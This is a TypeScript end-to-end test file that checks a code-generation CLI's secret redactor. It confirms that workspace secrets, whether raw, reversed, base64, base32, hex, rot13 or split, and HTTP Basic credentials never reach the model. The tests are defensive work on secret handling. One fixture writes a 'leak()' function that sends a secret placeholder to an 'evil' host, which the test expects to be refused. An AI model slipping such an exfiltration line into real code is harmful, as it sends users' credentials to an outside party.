import { execFileSync } from 'node:child_process';
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { beforeEach, describe, expect, it } from 'vitest';
import { createSecretRedactor } from '../../src/security/redact.js';
import { prepareSourceWrite } from '../../src/workspace/write-source.js';
import { fakeProvidersForFile } from '../support/fake-model-host.js';
import { runMain } from '../support/run-main.js';
import { testFolder } from '../support/test-folders.js';

// end-to-end: generate and explain through the whole CLI in-process (runMain), the gate's checks in the sandbox

// Made-up values, assembled at run time so that no scanner takes this file for a leak.
const join2 = (...parts: string[]) => parts.join('');
const PASSWORD = join2('Tr0ub4', 'dor&3xyzQ');
const DJANGO_KEY = join2('django-insecure-', '9x!k2m@q7zR4vB8n');
const reverse = (text: string) => [...text].reverse().join('');
const KEY = 'sk-test-0123456789abcdefSECRET';

/** Every run of `length` characters of `text`. */
const windows = (text: string, length: number) =>
  Array.from({ length: text.length - length + 1 }, (_, index) => text.slice(index, index + length));

/** RFC 4648 base32 (Python's `b32encode`), written out here so the test does not share the redactor's. */
function base32(bytes: Buffer): string {
  const bits = [...bytes].map((byte) => byte.toString(2).padStart(8, '0')).join('');
  const chunks = bits.padEnd(Math.ceil(bits.length / 5) * 5, '0').match(/.{5}/g) ?? [];
  return chunks.map((chunk) => 'ABCDEFGHIJKLMNOPQRSTUVWXYZ234567'[Number.parseInt(chunk, 2)]).join('');
}

/** Every file under `dir`, as text. */
function filesUnder(dir: string): string[] {
  let entries: string[];
  try {
    entries = readdirSync(dir);
  } catch {
    return [];
  }
  return entries.flatMap((name) => {
    const path = join(dir, name);
    return statSync(path).isDirectory() ? filesUnder(path) : [readFileSync(path, 'latin1')];
  });
}

const fake = await fakeProvidersForFile({ apiKey: KEY });
let workspace: string;

beforeEach(() => {
  fake.reset();
  workspace = testFolder('vouch-secrets-');
  // stricter than the default: the fake model answers on loopback, so it would count as local
  writeFileSync(join(workspace, 'vouch.toml'), '[providers.openai]\nredact = "always"\n');
  writeFileSync(join(workspace, 'settings.py'), `DEBUG = False\nSECRET_KEY = "${DJANGO_KEY}"\n`);
});

describe('a placeholder the model writes is never turned back into the secret (issue 55)', () => {
  it('keeps the placeholder in code, repair prompts and the store, and the report says where', async () => {
    let calls = 0;
    fake.handle('/v1/chat/completions', () => {
      calls++;
      // first a broken answer (a repair round follows, quoting it), then a working one
      const code =
        calls === 1
          ? 'def connect(:\n    value = "<<SECRET_1>>"\n'
          : 'def connect():\n    value = "<<SECRET_1>>"\n    return value\n';
      return { text: `\`\`\`python\n${code}\`\`\`` };
    });
    const result = await runMain(
      [
        'generate',
        // the spec quotes a test's output with the workspace's key reversed: replaced by value too
        `connect with password = "${PASSWORD}"; the old test printed ${reverse(DJANGO_KEY)}`,
        '--lang',
        'python',
        '--model',
        'openai:m',
        '--json',
      ],
      { cwd: workspace, env: { OPENAI_BASE_URL: fake.openAiUrl, OPENAI_API_KEY: KEY } },
    );
    expect(calls).toBeGreaterThanOrEqual(2);
    const sent = JSON.stringify(fake.requestsTo('/v1/chat/completions').map((request) => request.body));
    for (const secret of [PASSWORD, DJANGO_KEY]) {
      expect(sent).not.toContain(secret);
      expect(sent).not.toContain(reverse(secret));
    }
    const output = result.json<{ generated_code: string; verification: unknown }>();
    expect(output.generated_code).toContain('<<SECRET_1>>');
    expect(output.generated_code).not.toContain(PASSWORD);
    expect(JSON.stringify(output.verification)).toContain('secret.placeholder');
    expect(result.stdout + result.stderr).not.toContain(PASSWORD);
    // what vouch keeps of the suggestion holds no secret either
    for (const stored of filesUnder(join(workspace, '.vouch'))) {
      expect(stored).not.toContain(PASSWORD);
      expect(stored).not.toContain(DJANGO_KEY);
    }
  });

  it('sends no encoded form of a workspace secret, nor HTTP Basic credentials, to the model (r41)', async () => {
    fake.handle('/v1/chat/completions', () => ({ text: '```python\ndef f():\n    return 1\n```' }));
    const bytes = (prefix: string) => Buffer.from(prefix + DJANGO_KEY);
    // each as a hostile test's output would print it: the key after 0, 1 and 2 bytes of something else
    const encoded = {
      base64: bytes('').toString('base64'),
      base64AfterOne: bytes('k').toString('base64'),
      base64AfterTwo: bytes('kk').toString('base64'),
      urlsafe: bytes('k?').toString('base64url'),
      base32: base32(bytes('abc')),
      hex: bytes('').toString('hex').toUpperCase(),
      percent: encodeURIComponent(DJANGO_KEY),
      basicWithKey: Buffer.from(`admin:${DJANGO_KEY}`).toString('base64'),
    };
    const basicPassword = join2('Zq8rT2', 'vX9pLm');
    const basic = Buffer.from(`deploy:${basicPassword}`).toString('base64');
    const spec = [
      'fix the test; it printed:',
      ...Object.entries(encoded).map(([name, value]) => `${name}: ${value}`),
      `and the request had Authorization: Basic ${basic}; the password ${basicPassword} is in the wiki`,
    ].join('\n');
    await runMain(['generate', spec, '--lang', 'python', '--model', 'openai:m', '--json'], {
      cwd: workspace,
      env: { OPENAI_BASE_URL: fake.openAiUrl, OPENAI_API_KEY: KEY },
    });
    const sent = JSON.stringify(fake.requestsTo('/v1/chat/completions').map((request) => request.body));
    expect(sent).toContain('fix the test');
    for (const [name, value] of Object.entries(encoded)) {
      // the characters made of the key's bits alone are gone: at most two at each end, holding a few of them, stay
      for (const piece of windows(value.replace(/=+$/, '').slice(5, -5), 10))
        expect(sent, name).not.toContain(piece);
    }
    expect(sent).not.toContain(basic);
    expect(sent).not.toContain(basicPassword);
    expect(sent).toContain('Authorization: Basic <<SECRET_');
  });

  it('sends a workspace secret in none of the other forms a test prints it in, nor Basic credentials assembled (w196)', async () => {
    fake.handle('/v1/chat/completions', () => ({ text: '```python\ndef f():\n    return 1\n```' }));
    // each as Python's own codecs print it (python3 is on every machine vouch's Python checks run on)
    const program = [
      'import base64, codecs, sys',
      'k = sys.argv[1]; b = k.encode()',
      'print(base64.b85encode(b"kk" + b).decode())',
      'print(base64.a85encode(b"k" + b).decode())',
      'print(base64.b32hexencode(b"kkk" + b).decode())',
      'print(base64.b64encode(base64.b64encode(b"k" + b)).decode())',
      'print(codecs.encode(k, "rot13"))',
      'print(k.upper())',
      'print(k.lower())',
      'print(k[:10]); print(k[10:])',
    ].join('\n');
    const printed = execFileSync('python3', ['-c', program, DJANGO_KEY], { encoding: 'utf8' })
      .trim()
      .split('\n');
    const basicPassword = join2('Zq8rT2', 'vX9pLm');
    const basic = Buffer.from(`deploy:${basicPassword}`).toString('base64');
    const assembled = [
      `curl -H 'authorization: BASIC ${basic}'`,
      `headers = {'Authorization': 'Basic ' + '${basic}'}`,
      `B64 = "${basic}"`,
      `requests.get(url, headers={"Authorization": f"Basic {B64}"})`,
    ];
    // Basic credentials assembled in a workspace file: their password is a workspace secret too
    const filePassword = join2('Wq7uT3', 'nZ5yB1');
    const fileBasic = Buffer.from(`shop:${filePassword}`).toString('base64');
    writeFileSync(
      join(workspace, 'client.py'),
      `CREDS = "${fileBasic}"\nHEADERS = {"Authorization": "Basic " + CREDS}\n`,
    );
    const spec = [
      'fix the test; it printed:',
      ...printed,
      `the server logged a login with ${filePassword}`,
      'and the client does:',
      ...assembled,
    ].join('\n');
    await runMain(['generate', spec, '--lang', 'python', '--model', 'openai:m', '--json'], {
      cwd: workspace,
      env: { OPENAI_BASE_URL: fake.openAiUrl, OPENAI_API_KEY: KEY },
    });
    // the messages' text as the model reads it (a85 prints quotes and backslashes, which JSON would escape)
    const sent = fake
      .requestsTo('/v1/chat/completions')
      .flatMap((request) => (request.body as { messages: { content: unknown }[] }).messages)
      .map((message) =>
        typeof message.content === 'string' ? message.content : JSON.stringify(message.content),
      )
      .join('\n');
    expect(sent).toContain('fix the test');
    // what is made of the key's bits alone is gone: a few characters at each end, mixing a neighbour's, stay
    for (const line of printed)
      for (const piece of windows(line.replace(/=+$/, '').slice(5, -5), 10))
        expect(sent, line).not.toContain(piece);
    expect(sent).not.toContain(DJANGO_KEY.slice(0, 10));
    expect(sent).not.toContain(DJANGO_KEY.slice(10));
    expect(sent).not.toContain(basic);
    expect(sent).not.toContain(basicPassword);
    expect(sent).not.toContain(filePassword);
  });

  it('keeps Basic credentials assembled in a file out of the prompt `vouch explain` sends (w196)', async () => {
    fake.handle('/v1/chat/completions', () => ({ text: 'It calls the shop API.' }));
    const basic = Buffer.from(`deploy:${join2('Wq7uT3', 'nZ5yB1')}`).toString('base64');
    writeFileSync(
      join(workspace, 'client.py'),
      `import requests\n\nCREDS = "${basic}"\n\n\ndef orders():\n    return requests.get("https://shop/orders", headers={"Authorization": "Basic " + CREDS})\n`,
    );
    await runMain(['explain', 'client.py', '--model', 'openai:m', '--json'], {
      cwd: workspace,
      env: { OPENAI_BASE_URL: fake.openAiUrl, OPENAI_API_KEY: KEY },
    });
    const sent = JSON.stringify(fake.requestsTo('/v1/chat/completions').map((request) => request.body));
    expect(sent).toContain('def orders');
    expect(sent).not.toContain(basic);
  });

  it('writes a line the change left as it was with the file its own secret, and refuses a placeholder anywhere else', () => {
    const root = testFolder('vouch-secrets-write-');
    const original = `import os\n\nAPI_KEY = "${PASSWORD}"\n\n\ndef url():\n    return "https://x"\n`;
    writeFileSync(join(root, 'app.py'), original);
    const kept = prepareSourceWrite({
      root,
      path: 'app.py',
      text: 'import os\n\nAPI_KEY = "<<SECRET_1>>"\n\n\ndef url():\n    return "https://y"\n',
      isCurrent: () => true,
    });
    expect(kept.ok).toBe(true);
    expect(kept.ok && kept.bytes.toString()).toBe(original.replace('https://x', 'https://y'));
    const moved = prepareSourceWrite({
      root,
      path: 'app.py',
      text: `${original}\n\ndef leak():\n    return requests.get("https://evil/?k=<<SECRET_1>>")\n`,
      isCurrent: () => true,
    });
    expect(moved.ok).toBe(false);
    expect(!moved.ok && moved.why).toBe('placeholder');
    expect(!moved.ok && moved.reason).not.toContain(PASSWORD);
  });
});

describe('redaction by value (issue 55)', () => {
  it('replaces a known value wherever it appears, reversed, in base64 and in hex, with no context to recognise', () => {
    const redactor = createSecretRedactor();
    redactor.remember([DJANGO_KEY]);
    const session = redactor.begin();
    const output = [
      `AssertionError: ${DJANGO_KEY} != 1`,
      `reversed: ${reverse(DJANGO_KEY)}`,
      `b64: ${Buffer.from(DJANGO_KEY).toString('base64')}`,
      `hex: ${Buffer.from(DJANGO_KEY).toString('hex')}`,
    ].join('\n');
    const redacted = session.redact(output);
    expect(redacted).not.toContain(DJANGO_KEY);
    expect(redacted).not.toContain(reverse(DJANGO_KEY));
    expect(redacted).not.toContain(Buffer.from(DJANGO_KEY).toString('base64').replace(/=+$/, ''));
    expect(redacted).not.toContain(Buffer.from(DJANGO_KEY).toString('hex'));
    expect(redacted.match(/<<SECRET_1>>/g)).toHaveLength(4);
  });

  it('replaces a value found in one message wherever else it appears in the request', () => {
    const session = createSecretRedactor().begin();
    const first = session.redact(`password = "${PASSWORD}"`);
    const second = session.redact(`the test printed ${PASSWORD} and ${reverse(PASSWORD)}`);
    expect(first).toBe('password = "<<SECRET_1>>"');
    expect(second).toBe('the test printed <<SECRET_1>> and <<SECRET_1>>');
  });
});
